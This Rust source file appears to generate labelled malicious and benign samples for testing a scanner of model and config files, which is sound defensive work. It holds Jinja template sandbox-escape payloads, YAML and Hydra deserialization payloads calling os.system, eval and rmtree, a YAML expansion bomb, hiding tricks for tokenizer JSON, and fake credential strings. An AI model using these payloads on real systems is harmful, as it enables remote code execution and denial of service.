//! Templates, and configuration that names what is run.

use serde_json::json;

use crate::Sample;

/// Templates of Jinja that leave their sandbox or do not end, each with what it
/// tries.
pub static TEMPLATES: &[(&str, &str)] = &[
    ("subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("globals", "{{ cycler.__init__.__globals__.os.popen('echo inert').read() }}"),
    ("lipsum", "{{ lipsum.__globals__['os'].popen('echo inert').read() }}"),
    ("self", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo inert') }}"),
    ("attr-filter", "{{ ''|attr('__class__')|attr('__mro__') }}"),
    ("attr-filter-joined", "{{ ''|attr('__cl' ~ 'ass__')|attr(['__m','ro__']|join) }}"),
    ("attr-filter-hex", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
    ("attr-of-input", "{{ messages|attr(messages[0]['role']) }}"),
    ("subscript", "{{ ''['__class__']['__base__']['__subclasses__']() }}"),
    ("subscript-joined", "{{ ''['__cla' + 'ss__'] }}"),
    ("namespace", "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}"),
    ("in-a-condition", "{% if messages.__class__.__base__ %}x{% endif %}"),
    ("in-a-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"),
    ("in-a-macro", "{% macro m(x) %}{{ x.__globals__ }}{% endmacro %}{{ m(lipsum) }}"),
    ("in-a-call", "{{ raise_exception(messages.__class__.__mro__) }}"),
    ("map-attribute", "{{ [messages]|map(attribute='__class__')|list }}"),
    (
        "far-behind",
        concat!(
            "{% for message in messages %}{{ message['content'] }}{% endfor %}",
            "{% set a = 1 %}{% set b = a.__class__ %}{{ b.__base__.__subclasses__()[9]('echo inert') }}"
        ),
    ),
    ("include", "{% include '/nonexistent/inert' %}"),
    ("import", "{% import '../../inert.j2' as evil %}{{ evil.run() }}"),
    ("extends", "{% extends '/nonexistent/inert' %}"),
    (
        "endless-range",
        "{% for i in range(1000000000000) %}{% for j in range(1000000000) %}x{% endfor %}{% endfor %}",
    ),
    ("format", "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}"),
    ("config", "{{ config.__class__.from_envvar.__globals__ }}"),
    ("request", "{{ request.application.__globals__.__builtins__ }}"),
    ("joiner", "{{ joiner.__init__.__globals__.os }}"),
    ("func-globals", "{{ messages.append.__self__.__class__.__base__ }}"),
    ("minus-tags", "{%- set x = ().__class__ -%}{{- x.__base__ -}}"),
];

/// All of them.
pub fn samples() -> Vec<Sample> {
    [templates(), yaml(), json_files(), secrets()].concat()
}

fn templates() -> Vec<Sample> {
    let mut samples = Vec::new();
    for (what, template) in TEMPLATES {
        let mut add = |place: &str, file: &str, text: String| {
            let what = format!("{place}-{what}");
            samples.push(Sample::malicious("template", "template", &what, file, text));
        };
        add("file", "chat_template.jinja", (*template).to_owned());
        add("tokenizer", "tokenizer_config.json", json!({"chat_template": template}).to_string());
        let named = json!([{"name": "default", "template": CHAT}, {"name": "tool_use", "template": template}]);
        add("named", "tokenizer_config.json", json!({"chat_template": named}).to_string());
        add("json", "chat_template.json", json!({"chat_template": template}).to_string());
    }
    samples.extend(tokenizers());
    let family = "honest template";
    samples.push(Sample::benign("template", family, "chat", "chat_template.jinja", CHAT));
    let tokenizer = json!({"chat_template": CHAT, "model_max_length": 512}).to_string();
    samples.push(Sample::benign(
        "template",
        family,
        "tokenizer",
        "tokenizer_config.json",
        tokenizer,
    ));
    samples
}

/// Configurations of a tokenizer in which the template is not where one looks
/// first.
fn tokenizers() -> Vec<Sample> {
    let (_, evil) = TEMPLATES[0];
    let evil = json!(evil).to_string();
    let tokens: String =
        (0..3000).map(|id| format!(r#""{id}":{{"content":"<t{id}>"}},"#)).collect();
    let one = format!(r#"{{"chat_template":{evil}}}"#);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("twice", format!(r#"{{"chat_template":"{{{{ a }}}}","chat_template":{evil}}}"#).into()),
        (
            "twice-other-way",
            format!(r#"{{"chat_template":{evil},"chat_template":"{{{{ a }}}}"}}"#).into(),
        ),
        (
            "far-behind",
            format!(r#"{{"added_tokens_decoder":{{{tokens}"x":1}},"chat_template":{evil}}}"#)
                .into(),
        ),
        ("escaped-key", one.replace("chat_template", "chat_\\u0074emplate").into()),
        ("byte-order-mark", format!("\u{feff}{one}").into()),
        ("spaced", format!("{}{one}", "\n".repeat(9000)).into()),
        ("within", format!(r#"{{"processor":{{"chat_template":{evil}}}}}"#).into()),
    ];
    let sample = |(what, bytes): (&str, Vec<u8>)| {
        let what = format!("tokenizer-{what}-place");
        Sample::malicious("template", "template", &what, "tokenizer_config.json", bytes)
    };
    cases.into_iter().map(sample).collect()
}

const CHAT: &str = "{{ bos_token }}{% for message in messages %}\
{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}\
{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}\
{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] | trim + ' [/INST]' }}\
{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}";

fn yaml() -> Vec<Sample> {
    let cases = [
        ("apply", "a: !!python/object/apply:os.system ['echo inert']\n"),
        ("apply-dict", "!!python/object/apply:subprocess.Popen\n- [echo, inert]\n"),
        ("new", "!!python/object/new:os.system ['echo inert']\n"),
        (
            "new-state",
            "!!python/object/new:type\nargs: [x, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: \"print('inert')\"\n",
        ),
        ("name", "loss: !!python/name:os.system\n"),
        ("module", "m: !!python/module:os\n"),
        ("object", "m: !!python/object:subprocess.Popen {args: inert}\n"),
        ("verbatim", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo inert']\n"),
        (
            "handle",
            "%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['echo inert']\n",
        ),
        (
            "handle-of-default",
            "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['echo inert']\n",
        ),
        ("escaped", "a: !!python/object/apply:o%73.system ['echo inert']\n"),
        ("in-flow", "{a: [1, 2, {b: !!python/object/apply:os.system ['echo inert']}]}\n"),
        ("second-document", "a: 1\n---\nb: !!python/object/apply:os.system ['echo inert']\n"),
        ("anchor", "a: &x !!python/object/apply:os.system ['echo inert']\nb: *x\n"),
        ("key", "? !!python/object/apply:os.system ['echo inert']\n: 1\n"),
        ("eval", "a: !!python/object/apply:eval [\"print('inert')\"]\n"),
        ("ruby", "--- !ruby/object:Gem::Installer\ni: x\n"),
        (
            "java",
            "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://inert.invalid/']]]]\n",
        ),
        ("hydra-os", "model:\n  _target_: os.system\n  command: echo inert\n"),
        ("hydra-popen", "model:\n  _target_: subprocess.Popen\n  args: [echo, inert]\n"),
        (
            "hydra-eval",
            "model:\n  optimizer:\n    _target_: builtins.eval\n    _args_: [\"print('inert')\"]\n",
        ),
        ("hydra-quoted", "model: {\"_target_\": 'builtins.exec', _args_: [\"print('inert')\"]}\n"),
        ("hydra-import", "a:\n  _target_: importlib.import_module\n  name: inert\n"),
        (
            "hydra-list",
            "callbacks:\n  - _target_: torch.nn.ReLU\n  - _target_: shutil.rmtree\n    path: /nonexistent/inert\n",
        ),
        ("hydra-pickle", "a:\n  _target_: pickle.loads\n  _args_: [x]\n"),
        ("bomb", BOMB),
    ];
    let sample =
        |(what, text): &(&str, &str)| Sample::malicious("yaml", "yaml", what, "config.yaml", *text);
    let mut samples: Vec<_> = cases.iter().map(sample).collect();
    for name in ["model_config.yml", "hparams.txt", "config", "MLmodel", "train.conf"] {
        let what = format!("named-{name}");
        samples.push(Sample::malicious("yaml", "lying file name", &what, name, cases[0].1));
    }
    let honest = "name: m\nmodel:\n  _target_: torch.nn.Linear\n  in_features: 4\nlist: [1, 2, !!str 3]\n\
                  ref: &r {a: b}\nagain: *r\n";
    samples.push(Sample::benign("yaml", "honest yaml", "plain", "config.yaml", honest));
    samples
}

const BOMB: &str = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n\
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n\
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n\
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n\
i: [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n";

fn json_files() -> Vec<Sample> {
    let hydra =
        |target: &str| json!({"model": {"_target_": target, "_args_": ["echo inert"]}}).to_string();
    let cases = [
        ("hydra-os", hydra("os.system")),
        ("hydra-exec", hydra("builtins.exec")),
        ("hydra-popen", hydra("subprocess.Popen")),
        ("hydra-escaped", hydra("os.system").replace("_target_", "_t\\u0061rget_")),
        ("hydra-escaped-value", hydra("os.system").replace("os.system", "o\\u0073.system")),
    ];
    let sample = |(what, text): (&str, String)| {
        Sample::malicious("json", "hydra target", what, "config.json", text)
    };
    cases.into_iter().map(sample).collect()
}

/// Keys and tokens that open nothing: made here, so that the code holds none.
fn secrets() -> Vec<Sample> {
    let letters = |count: usize| {
        let all = "q7Zm2Xc9Vb4Nn8Ls1Kd6Jf3Hg5Gt0YwRePoUiTaSQ";
        all.chars().cycle().take(count).collect::<String>()
    };
    let key = |kind: &str| {
        let begin = if kind.starts_with("OPENSSH") { "b3BlbnNzaC1rZXktdjEAAAAA" } else { "" };
        let body = format!("{begin}{}", letters(64 - begin.len()));
        format!(
            "-----BEGIN {kind}PRIVATE KEY-----\n{body}\n{body}\n{body}\n-----END {kind}PRIVATE KEY-----\n"
        )
    };
    let amazon = format!("AKIA{}", letters(16).to_uppercase());
    let cases = [
        ("rsa", "id_rsa", key("RSA ")),
        ("openssh", "key", key("OPENSSH ")),
        ("pkcs8", "server.pem", key("")),
        ("ec", "notes.md", format!("Some words.\n\n{}", key("EC "))),
        (
            "hugging-face",
            "config.json",
            json!({"token": format!("hf_{}", letters(34))}).to_string(),
        ),
        ("github", ".env", format!("TOKEN=ghp_{}\n", letters(36))),
        (
            "github-fine",
            "train.py",
            format!("TOKEN = 'github_pat_{}_{}'\n", letters(22), letters(59)),
        ),
        (
            "amazon",
            "credentials",
            format!(
                "[default]\naws_access_key_id = {amazon}\naws_secret_access_key = {}\n",
                letters(40)
            ),
        ),
        (
            "slack",
            "notify.yaml",
            format!("token: xoxb-291746830517-5830174629318-{}\n", letters(24)),
        ),
        ("google", "config.json", json!({"key": format!("AIza{}", letters(35))}).to_string()),
        ("openai", ".env", format!("OPENAI_API_KEY=sk-{}T3BlbkFJ{}\n", letters(20), letters(20))),
    ];
    let sample = |(what, file, text): (&str, &str, String)| {
        Sample::malicious("secret", "secret", what, file, text)
    };
    cases.into_iter().map(sample).collect()
}
